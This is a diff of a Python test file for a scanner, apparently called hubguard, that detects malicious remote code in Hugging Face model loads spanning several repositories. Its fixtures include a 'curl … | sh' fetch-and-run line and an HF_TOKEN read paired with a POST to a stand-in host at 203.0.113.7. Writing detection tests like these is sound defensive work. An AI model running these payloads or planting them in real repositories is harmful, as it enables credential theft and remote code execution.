@@ -5,7 +5,6 @@ from __future__ import annotations
 import base64
 import zlib
 
-from hubguard.remote_code import CallCode
 from tests.remote_code.corpus import (
     AUTO_MAP,
     ERROR,
@@ -409,7 +408,7 @@ def _allowed_org_case(canary: str, payload: str) -> Case:
 
 
 def other_repositories(canary: str) -> list[Case]:
-    """Code fetched from another repository or revision: planning + scanning level until the next wave."""
+    """Code fetched from another repository or revision than the loaded commit."""
     payload = "import os\nos.system('curl -s https://203.0.113.7/b | sh')\n"
     evil_module = MODEL_IMPORTS + canary_line(canary, "other") + payload + MODEL_CLASS
     clean_module = MODEL_IMPORTS + MODEL_CLASS
@@ -433,8 +432,7 @@ def other_repositories(canary: str) -> list[Case]:
             "cross-repo-auto-map", True, ("cross-repo",),
             'AutoModel.from_pretrained("mal/cross-repo", revision="{rev}", trust_remote_code=True)',
             (Repo("mal/cross-repo", {"config.json": config(cross_map)}), cross),
-            cross_expected, end_to_end=False, code_call=CallCode(),
-            fetches=(Fetch("mal-code/shared-arch", None, "modeling_custom.py"),),
+            cross_expected, fetches=(Fetch("mal-code/shared-arch", None, "modeling_custom.py"),),
         ),
         Case(
             "cross-repo-tokenizer-pair", True, ("cross-repo", "tokenizer"),
@@ -448,8 +446,7 @@ def other_repositories(canary: str) -> list[Case]:
                 }),
                 Repo("mal-code/tok", {"tokenization_fast.py": text(tokenizer_source)}),
             ),
-            cross_expected, end_to_end=False, code_call=CallCode(),
-            fetches=(Fetch("mal-code/tok", None, "tokenization_fast.py"),),
+            cross_expected, fetches=(Fetch("mal-code/tok", None, "tokenization_fast.py"),),
         ),
         Case(
             "code-revision-same-repo", True, ("code_revision",),
@@ -458,7 +455,6 @@ def other_repositories(canary: str) -> list[Case]:
             (Repo("mal/code-revision", {"config.json": config(AUTO_MAP), "modeling_custom.py": text(clean_module)},
                   branches={"dev": {"config.json": config(AUTO_MAP), "modeling_custom.py": text(evil_module)}}),),
             expect(("HG101", ERROR), ("HG201", ERROR), ("HG401", WARNING), ("HG402", ERROR)),
-            end_to_end=False, code_call=CallCode(code_revision="dev"),
             fetches=(Fetch("mal/code-revision", "dev", "modeling_custom.py"),),
         ),
         Case(
@@ -471,7 +467,6 @@ def other_repositories(canary: str) -> list[Case]:
                      branches={"v2": {"modeling_custom.py": text(evil_module)}}),
             ),
             expect(("HG101", ERROR), ("HG201", ERROR), ("HG406", ERROR), ("HG402", ERROR)),
-            end_to_end=False, code_call=CallCode(code_revision="v2"),
             fetches=(Fetch("mal-code/shared-arch-v2", "v2", "modeling_custom.py"),),
         ),
         Case(
@@ -483,15 +478,13 @@ def other_repositories(canary: str) -> list[Case]:
                 Repo("mal/fast-pipe", {"pipeline.py": text(pipeline_source)}),
             ),
             expect(("HG101", ERROR), ("HG201", ERROR), ("HG402", ERROR)),
-            end_to_end=False, code_call=CallCode(custom_pipeline="mal/fast-pipe", custom_revision="main"),
             fetches=(Fetch("mal/fast-pipe", "main", "pipeline.py"),),
         ),
         Case(
             "custom-generate-repo", True, ("custom-generate",),
             'model.generate(input_ids, custom_generate="mal/gen-strategy", trust_remote_code=True)',
             (Repo("mal/gen-strategy", {"custom_generate/generate.py": text(generate)}),),
-            expect(("HG101", ERROR), ("HG402", ERROR)),
-            end_to_end=False, code_call=CallCode(custom_generate="mal/gen-strategy"),
+            expect(("HG101", ERROR), ("HG201", ERROR), ("HG402", ERROR)),
             fetches=(Fetch("mal/gen-strategy", None, "custom_generate/generate.py"),),
         ),
         Case(
@@ -503,8 +496,81 @@ def other_repositories(canary: str) -> list[Case]:
                 )}),
                 Repo("mal-code/st-pool", {"st_pool.py": text(st_module)}),
             ),
-            cross_expected, end_to_end=False, code_call=CallCode(),
-            fetches=(Fetch("mal-code/st-pool", None, "st_pool.py"),),
+            cross_expected, fetches=(Fetch("mal-code/st-pool", None, "st_pool.py"),),
+        ),
+        *closure_across_repositories(canary, payload),
+    ]
+
+
+def closure_across_repositories(canary: str, payload: str) -> list[Case]:
+    """What only fetching the code the loader fetches, and judging a load's code as a whole, can see."""
+    config_class = (
+        "import os\nfrom transformers import PretrainedConfig\n" + canary_line(canary, "split") +
+        "\n\nclass CustomConfig(PretrainedConfig):\n    model_type = 'custom'\n\n"
+        "    def __init__(self, hidden_size=64, num_layers=2, **kwargs):\n"
+        "        self.hidden_size = hidden_size\n        self.num_layers = num_layers\n"
+        "        self.session = os.environ.get('HF_TOKEN', '')\n        super().__init__(**kwargs)\n"
+    )
+    sender = (
+        MODEL_IMPORTS + "import requests\n\n\ndef report_usage(config):\n"
+        "    requests.post('https://203.0.113.7/collect', json={'session': config.session})\n" + MODEL_CLASS
+    )
+    loader_only = MODEL_IMPORTS + canary_line(canary, "helpers") + '"""Usage:\n\n    from .kernels import fused\n"""\n'
+    kernels = "import os\n" + payload
+    self_map = {"AutoConfig": "mal/self-named--modeling_custom.CustomConfig",
+                "AutoModel": "mal/self-named--modeling_custom.CustomModel"}
+    only_on_dev = {"AutoConfig": "modeling_dev.CustomConfig", "AutoModel": "modeling_dev.CustomModel"}
+    evil_dev = MODEL_IMPORTS + canary_line(canary, "dev") + payload + MODEL_CLASS
+    return [
+        Case(
+            # A token read by the model's own config class, sent by the model class another repository
+            # supplies: neither is an error alone, and the load runs both.
+            "combination-across-repositories", True, ("cross-repo", "combination:credential-read+network-send"),
+            'AutoModel.from_pretrained("mal/split-stealer", revision="{rev}", trust_remote_code=True)',
+            (
+                Repo("mal/split-stealer", {
+                    "config.json": config({"AutoConfig": "configuration_custom.CustomConfig",
+                                           "AutoModel": "mal-code/sender--modeling_custom.CustomModel"}),
+                    "configuration_custom.py": text(config_class),
+                }),
+                Repo("mal-code/sender", {"modeling_custom.py": text(sender)}),
+            ),
+            expect(("HG101", ERROR), ("HG401", WARNING), ("HG406", ERROR), ("HG402", ERROR)),
+            fetches=(Fetch("mal-code/sender", None, "modeling_custom.py"),),
+        ),
+        Case(
+            # The payload sits in a file of the other repository that only the loader's regular expression
+            # imports (a docstring line).
+            "cross-repo-regex-import", True, ("cross-repo", "regex-relative-import"),
+            'AutoModel.from_pretrained("mal/cross-docstring", revision="{rev}", trust_remote_code=True)',
+            (
+                Repo("mal/cross-docstring", {"config.json": config({
+                    "AutoConfig": "mal-code/helpers--modeling_custom.CustomConfig",
+                    "AutoModel": "mal-code/helpers--modeling_custom.CustomModel",
+                })}),
+                Repo("mal-code/helpers", {"modeling_custom.py": text(loader_only + MODEL_CLASS),
+                                          "kernels.py": text(kernels)}),
+            ),
+            expect(("HG101", ERROR), ("HG406", ERROR), ("HG402", ERROR)),
+            fetches=(Fetch("mal-code/helpers", None, "kernels.py"),),
+        ),
+        Case(
+            # auto_map naming the loaded repository itself: transformers loads it at the model's own revision.
+            "self-named-cross-repo", True, ("cross-repo",),
+            LOAD.format(repo="mal/self-named"),
+            (Repo("mal/self-named", {"config.json": config(self_map),
+                                     "modeling_custom.py": text(MODEL_IMPORTS + canary_line(canary, "self") + payload
+                                                                + MODEL_CLASS)}),),
+            REMOTE_CODE_ERROR,
+        ),
+        Case(
+            # The config at the pinned revision names a module that exists only where code_revision points.
+            "code-revision-only-module", True, ("code_revision",),
+            'AutoModel.from_pretrained("mal/dev-only", revision="{rev}", code_revision="dev", trust_remote_code=True)',
+            (Repo("mal/dev-only", {"config.json": config(only_on_dev)},
+                  branches={"dev": {"config.json": config(only_on_dev), "modeling_dev.py": text(evil_dev)}}),),
+            expect(("HG101", ERROR), ("HG201", ERROR), ("HG401", WARNING), ("HG402", ERROR)),
+            fetches=(Fetch("mal/dev-only", "dev", "modeling_dev.py"),),
         ),
     ]
 
